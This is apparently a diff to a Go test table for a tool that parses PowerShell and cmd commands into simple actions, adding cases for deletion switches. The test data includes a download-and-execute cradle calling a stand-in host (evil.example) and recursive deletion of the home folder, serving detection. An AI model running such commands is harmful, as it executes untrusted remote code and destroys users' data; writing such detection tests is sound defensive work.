@@ -81,6 +81,8 @@ func TestRead(t *testing.T) {
 		{"switch that is off", `Remove-Item x -Recurse:$false`, `run remove-item x`},
 		{"splatting", `$d = '~'; $a = @{ Path = $d; Recurse = $true; Force = $false }; $d = 'x'; Remove-Item @a`, `run remove-item -Path ~ -Recurse`},
 		{"variable that stays", `[Environment]::SetEnvironmentVariable('A', 'b', 'Machine')`, "set A b\nrun setx A b"},
+		{"switches of cmd.exe", `erase /S /q a`, `run remove-item -Recurse a`},
+		{"a folder with a short name", `rd a -Recurse -Exclude /x`, `run remove-item a -Recurse -Exclude /x`},
 		{"list", `Remove-Item a, b`, `run remove-item a b`},
 		{"expression string", `iex 'rm x'`, `run remove-item x`},
 		{"cradle", `iex (New-Object Net.WebClient).DownloadString('http://evil.example/a')`, "fetch http://evil.example/a\nscript powershell from the network"},
